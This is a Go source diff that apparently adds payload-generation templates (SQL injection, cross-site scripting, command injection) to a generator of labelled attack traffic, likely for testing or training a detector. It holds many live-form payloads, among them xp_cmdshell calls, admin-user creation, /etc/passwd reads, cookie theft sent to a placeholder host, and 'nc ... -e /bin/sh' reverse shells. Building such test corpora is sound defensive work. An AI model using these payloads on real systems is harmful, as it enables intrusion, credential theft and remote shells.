@@ -162,6 +162,100 @@ func moreRules() source {
 1~«slugword»' in ('«slugword»') and '1
 1~«n»-if(«cmpn»,1,0)-«n»
 1~«slugword»' group by «col» having '1'='1`},
+		{"sqState", `
+2~select «col» from «tbl»
+2~select * from «tbl»
+1~select «sqf»
+1~select «sqf»;
+1~select «pgf»;
+1~select «msf»
+1~select «orf» from dual
+1~select «orf» from v$instance;
+1~select «col» from all_tables
+1~select «col» from pg_«slugnoun»
+1~select name from sys«slugnoun» where xtype='u'
+1~«col» from all_tab_columns
+1~create user «slugname» identified by '«a6»'
+1~create user «slugname» with password '«a6»';
+1~grant connect to «slugname»; grant resource to «slugname»;
+1~alter user «slugname» identified by «a6»;
+1~drop user «slugname»;
+1~exec sp_addlogin '«slugname»' , '«a6»'
+1~exec sp_addsrvrolemember '«slugname»' , 'sysadmin'
+1~exec master..xp_cmdshell '«ccmd»'
+1~«n»;exec sp_«slugnoun»--
+1~exec xp_regread '«a3»','«a3»'
+1~print @@version
+1~declare @«a1» varchar(«nnn») select @«a1» = 0x«hex32»
+1~declare @«a1» nvarchar(«nn») set @«a1»=«msf» exec(@«a1»)
+1~insert into «tbl» values («n»,'«slugname»','«a6»')
+1~insert into «tbl»(«col») select «col» from «tbl»
+1~update «tbl» set «col»='«a6»' where «col»='«slugname»'
+1~delete from «tbl» where «n»=«n»
+1~drop table «tbl»
+1~truncate table «tbl»;
+1~bulk insert «tbl» from '\\\\«chost»\\«a3»'
+1~utl_http.request('http://«chost»/')
+1~load data infile '/etc/passwd' into table «tbl»
+1~replace(«col»,'«a1»','«a3»') from «tbl»
+1~(select «sqf»)
+1~,@@version
+1~@@«slugnoun»
+1~begin declare @«a1» varchar(«nnn») end
+1~if not(substring((select @@version),«nn»,1) <> «n») waitfor delay '0:0:«n»'
+1~if(substring(user(),«n»,1)='«a1»',benchmark(«big»,md5(1)),null)`},
+		{"sqOr", `
+2~or «a1»=«a1»
+2~«slugword» or «a1»=«a1»
+1~or «n»=«n»
+1~or «n»>«n»
+1~or '«a3»' = '«a3»'
+1~or '«a3»' > '«a1»'
+1~or '«a6»' like '«a1»%'
+1~or '«a3»' in ('«a3»')
+1~or '«a3»' = n'«a3»'
+1~or '«a6»' = '«a3»'+'«a3»'
+1~or '«a6»'='«a3»'||'«a3»'
+1~or «n» in («n»,«n»)
+1~or «nn» between «n» and «nnn»
+1~or «col» like '%«a1»%'
+1~or «col» is not null--
+1~or isnull(«n»/0)
+1~«slugword»') or ('«a1»'='«a1»
+1~«slugword»") or ("«a1»"="«a1»
+1~«slugword»' or '«a1»'='«a1»
+1~«slugword»" or "«a1»"="«a1»
+1~’ or ‘«n»’=‘«n»’
+1~’ or ’’=’
+1~) or («a1»=«a1»
+1~)) or ((«n»=«n»
+1~or «a1»=«a1»#
+1~or «a1»=«a1»--
+1~or true--
+1~or not false
+1~-«nnn» or «n»
+1~«n» or «n»
+1~(«n4»-benchmark(«n»,0x«hex32»))
+1~(«n4»-pg_backend_pid()) «n4»
+1~«n»-sleep(«n»)
+1~«nnn»-'«n»'='«n»
+1~«n»+(select 0 from (select sleep(«n»))«a1»)`},
+		{"sqProbe", `
+2~«a3»'«a3»
+2~«tok»'«tok»
+2~«a6»"«a6»
+1~«a3»«n»'«a3»«n»
+1~«a6»` + "`" + `«a6»
+1~«a3»'"()
+1~«a3»'"(
+1~«a3»'"\\
+1~«a6»%27«a6»
+1~a'b"c'd"
+1~«a3»'"<«a3»>
+1~'«a6»'
+1~("'.,.,)'
+1~«n»'"
+1~«n»\\'`},
 		// Cross-site scripting.
 		{"xsShort", `
 4~<«a1»
@@ -614,6 +708,198 @@ $x=New-Object System.Net.Sockets.TCPClient('«chost»',«n4»)`},
 1~ldap://localhost:11211/%0astats%0aquit
 1~jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://«chost»/«a3».sql'
 1~http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/`},
+		{"xsMarkup", `
+2~«mbrk»<a href="http://«chost»/">«word»</a>
+2~«mbrk»<A HREF=//«chost»>«a3»</A>
+1~«mbrk»<a href=http://«chost»/«a3» «slugword»
+1~«mbrk»<a href=` + "``«slugnoun».exe``" + `>
+1~«mbrk»<img src=http://«chost»/«a3».jpg height=«nnn» width=«nnn»>
+1~«mbrk»<img src="http://«chost»/«tok»"
+1~«mbrk»<font color=«hex8»><marquee behavior=alternate bgcolor=«slugword»>
+1~«mbrk»<body background=http://«chost»/«a3».gif>
+1~«mbrk»<iframe src=http://«chost»/«a3».html <
+1~«mbrk»<iframe width=«nnn» height=«nnn» src=//«chost»></iframe>
+1~«mbrk»<h1><blink>«word» «word»</blink></h1>
+1~«mbrk»<center><h1>«word»</h1></center>
+1~«mbrk»<plaintext>
+1~«mbrk»<textarea>
+1~«mbrk»<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:«slugword»">
+1~«mbrk»<form action=http://«chost»/«a3» method=post><input name=«slugword»><input type=submit>
+1~«mbrk»<form><input type=password name=«slugword»>
+1~«mbrk»<meta http-equiv=refresh content="«n»;url=//«chost»/">
+1~«mbrk»<meta http-equiv="set-cookie" content="«a6»=«tok»">
+1~«mbrk»<base href=//«chost»/>
+1~«mbrk»<link rel="stylesheet" href="http://«chost»/«a3».css">
+1~«mbrk»<style>*{background:url(//«chost»/«a3»)}</style>
+1~«mbrk»<input type="text" value="«word»" <
+1~<«a3» «a1»="«n»"on«a3»=«n»
+1~<![«a3» «a1»="«a1»">
+1~"«a3»'«a3»</img
+1~«mbrk»<!--[if gte IE «n»]><script>«js»</script><![endif]-->
+1~<!--<img src="--><img src=x onerror=«js»//">
+1~<? echo('<scr)'; echo('ipt>«js»</script>'); ?>
+1~<?import namespace="«a1»" implementation="#default#«slugnoun»">
+1~<xml id="«a1»"><i><b>&lt;img src="javas<!-- -->cript:«js»"&gt;</b></i></xml>`},
+		{"mbrk", "5~\">\n4~'>\n2~∅\n1~</title>\n1~</a>\n1~<br>\n1~&«slugword»=\n1~'\"/>\n1~«slugword»\">\n1~/>\n1~</«tagn»>"},
+		{"xsEnt", `
+2~&lt;script&gt;«js»&lt;/script&gt;
+2~&lt;script src=http&#58;//«chost»/«a3».js&gt;&lt;/script&gt;
+1~&lt;img src=«a1» onerror=«js»&gt;
+1~&lt;img src=&quot;javascript&#58;«js»&quot;&gt;
+1~&lt;a href=\\"http&#58;//«chost»/\\"&gt;«word»&lt;/a&gt;
+1~&lt;iframe src=http&#58;//«chost»/&gt;
+1~&lt;body onload=«js»&gt;
+1~&lt;meta http-equiv=\\"refresh\\" content=\\"0;url=javascript&#58;«js»\\"&gt;
+1~&lt;style&gt;@im\\port'\\ja\\vasc\\ript&#58;«js»';&lt;/style&gt;
+1~&lt;?import namespace=\\"«a1»\\" implementation=\\"#default#«slugnoun»\\"&gt;
+1~&lt;!&#91;endif&#93;--&gt;
+1~&lt;!--#exec cmd=\\"«ccmd»\\"--&gt;
+1~&#60script&#62«js»&#60/script&#62
+1~&#x3cscript&#x3e«js»&#x3c/script&#x3e
+1~&#0000060script&#0000062«js»&#0000060/script&#0000062
+1~&#60;
+1~&#x3C;
+1~&#x00003e;
+1~&#0000060
+1~&#62;&#60;
+1~&lt;&lt;script&gt;
+1~%26lt;script%26gt;«js»%26lt;/script%26gt;
+1~\\u003cscript\\u003e«js»\\u003c/script\\u003e
+1~\\x3cscript\\x3e«js»\\x3c/script\\x3e
+1~\\74script\\76«js»\\74/script\\76`},
+		{"xsCharset", `
+2~\xbcscript\xbe«js»\xbc/script\xbe
+1~\xbcscript\xbealert(\xa2«a3»\xa2)\xbc/script\xbe
+1~+ADw-script+AD4-«js»+ADw-/script+AD4-
+1~+ADw-«a3» src+AD0-«a1» onerror+AD0-«js»+AD4-
+1~＜script＞«js»＜/script＞
+1~《script》«js»《/script》
+1~‹script›«js»‹/script›
+1~㰀script㸀«js»㰀/script㸀
+1~\xc0\xbcscript\xc0\xbe«js»\xc0\xbc/script\xc0\xbe
+1~\0<script>«js»
+1~<scr\0ipt>«js»</scr\0ipt>
+1~<\0«tagn» «hev»=«js»>
+1~<script\r\n>«js»</script\n>`},
+		{"xsWord", `
+1~eval('~'+'«a3»')
+1~«a1»=eval;«a1»=alert;«a1»(«a1»(/«a3»/.source))
+1~«a1»=alert;«a1»(«n»)
+1~_=alert,_(«n»)
+1~_=eval,__=unescape,___=document.URL,_(__(___))
+1~this['ale'+'rt'](«n»)
+1~window['al'+'ert'](«n»)
+1~top[/al/.source+/ert/.source](«n»)
+1~self['«a3»'+'«a3»'](document['coo'+'kie'])
+1~(alert)(«n»)
+1~[«n»].find(alert)
+1~[«n»,«n»].map(confirm)
+1~{valueOf:alert}+''
+1~({toString:alert}+'')
+1~throw onerror=alert,«n»
+1~onerror=alert;throw «n»
+1~setTimeout('«js»',«n»)
+1~setInterval(alert,«nnn»)
+1~new Function('«js»')()
+1~Function("al"+"ert(«n»)")()
+1~[]['filter']['constructor']('«js»')()
+1~''['constructor']['constructor']('«js»')()
+1~(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]
+1~([][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]+[])
+1~[]["«a3»"]["constructor"]("«js»")()
+1~$=~[];$={___:++$,$$$$:(![]+"")[$]}
+1~/«a3»/.source+location.hash
+1~location='java'+'script:'+'alert(«n»)'
+1~location.href='//«chost»/'+document.cookie
+1~document.write('<script src=//«chost»></'+'script>')
+1~document.write(unescape('%253Cscript%253E«js»%253C/script%253E'))
+1~document['body'].innerHTML='<img src=«a1» onerror=«js»>'
+1~String.fromCharCode(«nn»,«nn»,«nn»,«nn»)
+1~«a1»=['java' '' 'scr' 'ipt:' 'aler' 't(«n»)'];
+1~'});}catch(e){}«js»;try{(«a1»={'«a3»':'«a1»
+1~"+«js»+"
+1~«a3»;}«js»;function «a1»(){
+1~width:expression(«js»)
+1~width: \\0065\\0078\\0070\\0072\\0065\\0073\\0073\\0069\\006f\\006e(«js»)
+1~background-image:url("javascript:«js»")
+1~-moz-binding:url(http://«chost»/«a3».xml#«a1»)
+1~*{}body{background:red}
+1~//«chost»/@⒕₨
+1~//«chost»/«a3»`},
+		{"cbin", "4~/usr/bin/id\n2~/bin/id\n2~/bin/ls -al\n1~/bin/ls\n1~/bin/cat /etc/passwd\n1~/usr/bin/whoami\n1~/bin/uname -a\n1~/sbin/ifconfig\n1~/bin/ps aux\n1~/usr/bin/env\n1~/usr/bin/curl http://«chost»/\n1~/bin/sh -c «a3»\n1~/bin/echo «hex8»\n1~id\n1~whoami\n1~ping -n «nn» 127.0.0.1\n1~ping -i «nn» 127.0.0.1\n1~ping -c «n» «chost»\n1~ping localhost -i «n»\n1~timeout «nn»\n1~sleep «nn»\n1~dir c:\\\n1~ipconfig /all\n1~netstat -an\n1~«ccmd»"},
+		{"cmAbs", `
+3~«csep»«cbin»
+2~«cbin»|
+2~«cbin»;
+2~«cbin»\\n
+2~\\n«cbin»\\n
+1~\\n«cbin»;
+1~\\n«cbin»|
+1~%0a«cbin»%0a
+1~%0a«cbin»
+2~& «cbin» &
+2~| «cbin» |
+1~; «cbin» ;
+1~|| «cbin» ||
+1~&& «cbin»
+1~$ | «cbin»
+1~$;«cbin»
+1~$&&«cbin»
+1~a;«cbin»;
+1~«slugword»;«cbin»|
+1~«n»;«cbin»
+1~;«cbin»\\n
+1~|«cbin»|
+1~|«cbin»'
+1~<!--#exec cmd="«cbin»"-->
+1~<«cbin»\\n
+1~<«cbin»%0a
+1~` + "`«cbin»`" + `
+1~'«csep»«cbin»«csep»'
+1~");system('«cbin»
+1~«slugword» '«csep»«cbin»
+1~-1|«cbin»
+1~../../../../..«cbin»|
+1~/../../../..«cbin»
+1~nc «chost» «n4» -e /bin/sh
+1~nc -lvvp «n4» -e /bin/bash
+1~«a6».«a3»-«big»|id
+1~«n» |type \\boot.ini
+1~type %SYSTEMROOT%\\win.ini
+1~|sleep «n» #
+1~&&sleep «n»&&
+1~;system('«cbin»')
+1~;print(system("«cbin»"))
+1~exec("«cbin»")
+1~eval('«cbin»')
+1~eval("puts '«word»'")
+1~Kernel.exit(«n»)
+1~«n»|system(id)|`},
+		{"cmVar", `
+1~() { :;}; echo «a3»
+1~() { :; }; /bin/bash -c "«ccmd»"
+1~() { _; } >_[$($())] { «ccmd»; }
+1~«a3»='() { echo "«word»"; }' bash -c '«a3»'
+1~Cookie: () { :; }; «ccmd»
+1~$HOME
+1~$PATH
+1~${PATH}
+1~$ENV{'HOME'}
+1~$(echo $PATH)
+1~${HOME:0:1}etc${HOME:0:1}passwd
+1~%SYSTEMROOT%
+1~%COMSPEC% /c dir
+1~` + "`echo $USER`" + `
+1~"; «ccmd» ; echo "
+1~' ; «ccmd» ; echo '
+1~<%` + "`«ccmd»`" + `%>
+1~+++ATH0
+1~#{` + "`«ccmd»`" + `}
+1~"|«ccmd»|"
+1~$(<«cfile»)
+1~<(«ccmd»)
+1~{"cmd":"«ccmd»"}
+1~@«ccmd»`},
 	}
 }
 
@@ -624,10 +910,10 @@ func (p *payloads) moreTechniques(id func(string) int) {
 			p.byLabel[l] = append(p.byLabel[l], technique{rule: id(n), rawly: rawly})
 		}
 	}
-	add(traffic.SQLInjection, false, "sqPg", "sqMs", "sqOra", "sqLite", "sqEvade", "sqClause", "sqQuiet", "sqQuiet", "sqShort")
-	add(traffic.XSS, false, "xsObf", "xsFrame", "xsLong", "xsShort", "xsEvent")
+	add(traffic.SQLInjection, false, "sqPg", "sqMs", "sqOra", "sqLite", "sqEvade", "sqClause", "sqQuiet", "sqQuiet", "sqShort", "sqState", "sqState", "sqOr", "sqOr", "sqProbe")
+	add(traffic.XSS, false, "xsObf", "xsFrame", "xsLong", "xsShort", "xsEvent", "xsMarkup", "xsMarkup", "xsEnt", "xsWord", "xsWord", "xsCharset")
 	add(traffic.PathTraversal, true, "ptWrap", "ptTail", "ptTail")
-	add(traffic.CommandInjection, false, "cmShort", "cmWin", "cmEvade", "cmPipe", "cmTmpl2", "cmTmpl2")
+	add(traffic.CommandInjection, false, "cmShort", "cmWin", "cmEvade", "cmPipe", "cmTmpl2", "cmTmpl2", "cmAbs", "cmAbs", "cmVar")
 	add(traffic.OtherAttack, false, "oxNo", "oxDir", "oxProto", "oxInner", "oxInner")
 	add(traffic.OtherAttack, false, "oxGo")
 }
